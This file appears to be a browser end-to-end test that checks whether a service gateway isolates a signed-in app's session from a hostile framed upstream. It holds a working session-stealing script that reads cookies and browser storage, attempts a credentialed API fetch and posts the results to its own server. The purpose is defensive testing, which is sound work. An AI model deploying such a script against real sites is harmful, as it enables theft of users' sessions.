// Browser test of the service-UI gateway (issue 15, points 1 and 2) against a real --demo
// server (its demo user is admin + infra).
//
// Server: BOTMOX_BIN=/path/to/botmox (spawned as `botmox serve --listen 127.0.0.1:0
// --gateway-listen 127.0.0.1:0 --data-dir <tmp> --demo`). Browser: Debian's chromium through
// playwright-core.
//
// A hostile "TinyFM" upstream serves a page whose script tries everything a script can to get
// our session: document.cookie, localStorage and sessionStorage, the parent frame's storage, a
// credentialed fetch of the app's API, the Referer. It posts what it read back to itself, and
// the upstream records every request it receives. The signed-in app opens that page in its
// service-site frame; neither the report nor any recorded request holds anything of ours.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { explainFailure, launchBrowser, newPage, noChromium, pageApi, signIn, startServer, STEP_MS } from './support.mjs';

const skip = !process.env.BOTMOX_BIN ? 'set BOTMOX_BIN (server binary)' : noChromium();

/** The page's script: read what it can, then report it to its own server. */
const STEAL = (app) => `
(async () => {
  const attempt = async (f) => { try { return await f(); } catch (e) { return 'blocked: ' + e.name; } };
  const dump = (s) => JSON.stringify(Object.fromEntries(Object.keys(s).map((k) => [k, s.getItem(k)])));
  const report = {
    cookie: document.cookie,
    localStorage: dump(localStorage),
    sessionStorage: dump(sessionStorage),
    referrer: document.referrer,
    href: location.href,
    parentStorage: await attempt(() => dump(window.parent.localStorage)),
    parentCookie: await attempt(() => window.parent.document.cookie),
    whoami: await attempt(async () => (await fetch(${JSON.stringify(app)} + '/api/v1/auth/whoami', { credentials: 'include' })).text()),
  };
  await fetch('report', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(report) });
  document.body.dataset.reported = 'yes';
})();`;

/** The hostile upstream: records every request (line, headers, body); `reports` are the posts. */
function startHostile() {
  const seen = [];
  const reports = [];
  const state = { app: '' };
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      seen.push(`${req.method} ${req.url}\n${JSON.stringify(req.headers)}\n${body}`);
      if (req.method === 'POST' && req.url.startsWith('/report')) {
        reports.push(JSON.parse(body));
        res.end('{}');
        return;
      }
      res.setHeader('content-type', 'text/html; charset=utf-8');
      res.end(`<!doctype html><title>TinyFM</title><h1>Hostile TinyFM</h1><script>${STEAL(state.app)}</script>`);
    });
  });
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve({ server, seen, reports, state, url: `http://127.0.0.1:${server.address().port}` })),
  );
}

/** Polls `f` until it returns something truthy, or fails after STEP_MS. */
async function eventually(what, f) {
  const deadline = Date.now() + STEP_MS;
  for (;;) {
    const v = await f();
    if (v) return v;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

test('a hostile service UI behind the gateway cannot read the session', { skip, timeout: 120_000 }, async (t) => {
  const hostile = await startHostile();
  // The hostile upstream is on loopback, which the egress policy refuses unless allowed.
  const server = await startServer(process.env.BOTMOX_BIN, {
    args: ['--demo', '--egress-allow', '127.0.0.1/32'],
    dataDirPrefix: 'botmox-e2e-gateway-',
  });
  const { baseUrl, gatewayUrl } = server;
  hostile.state.app = new URL(baseUrl).origin;
  t.diagnostic(`server ${baseUrl}, gateway ${gatewayUrl}, upstream ${hostile.url}`);
  assert.ok(gatewayUrl && new URL(gatewayUrl).origin !== new URL(baseUrl).origin, `${gatewayUrl}`);

  const browser = await launchBrowser();
  const { context, page } = await newPage(browser);
  let step = 'sign in';
  try {
    await signIn(page, baseUrl);
    const saved = await pageApi(page, 'PUT', '/settings/vmgenerator/services', { tinyFmUrl: hostile.url });
    assert.equal(saved.status, 200, JSON.stringify(saved.body));

    step = 'open the service site';
    await page.goto(new URL('/vms/sites/tinyfm', baseUrl).toString());
    const frame = page.frameLocator('[data-testid="site-frame"]');
    await frame.getByText('Hostile TinyFM').waitFor();
    const report = await eventually('the hostile page to report', () => hostile.reports[0]);
    t.diagnostic(`the hostile page read: ${JSON.stringify(report)}`);

    step = 'nothing of ours reached the hostile page or its server';
    // Our secrets: whatever the app keeps in the browser (its storage, and every cookie of
    // either origin, HttpOnly ones included), as the browser itself holds them.
    const stored = await page.evaluate(() => Object.values(localStorage).concat(Object.values(sessionStorage)));
    const tokens = stored.flatMap((v) => v.match(/bmx_[A-Za-z0-9_-]{20,}/g) ?? []);
    const cookies = await context.cookies([baseUrl, gatewayUrl]);
    const secrets = [...tokens, ...cookies.map((c) => c.value)].filter((v) => v.length >= 16);
    const gatewayCookie = cookies.find((c) => c.name === 'botmox_gw_tinyfm');
    assert.ok(gatewayCookie, `the gateway cookie is set: ${JSON.stringify(cookies)}`);
    assert.equal(gatewayCookie.httpOnly, true);
    assert.equal(gatewayCookie.sameSite, 'Strict');
    assert.ok(secrets.some((s) => s.startsWith('bmx_s_')) || cookies.length > 1, 'the session is among the secrets');
    const everything = JSON.stringify(report) + hostile.seen.join('\n');
    for (const secret of secrets) assert.ok(!everything.includes(secret), `leaked ${secret.slice(0, 10)}…: ${everything}`);
    assert.equal(report.cookie, '', 'no script-readable cookie of ours on the gateway origin');
    assert.equal(report.localStorage, '{}');
    assert.match(report.parentStorage, /^blocked/);
    assert.match(report.parentCookie, /^blocked/);
    assert.match(report.whoami, /^blocked/, 'the app answers no cross-origin read');
    assert.equal(report.referrer, '');
    assert.equal(new URL(report.href).origin, new URL(gatewayUrl).origin);
    assert.ok(!report.href.includes('ticket='), report.href);
    assert.ok(!everything.toLowerCase().includes('"referer"'), 'no Referer reaches the upstream');
    assert.ok(!everything.toLowerCase().includes('"authorization"'), 'no Authorization reaches the upstream');
  } catch (e) {
    await explainFailure(e, page, 'gateway', [`step: ${step}`, `--- server log ---\n${server.log().slice(-4000)}`]);
    throw e;
  } finally {
    await browser.close();
    await server.stop();
    hostile.server.close();
  }
});
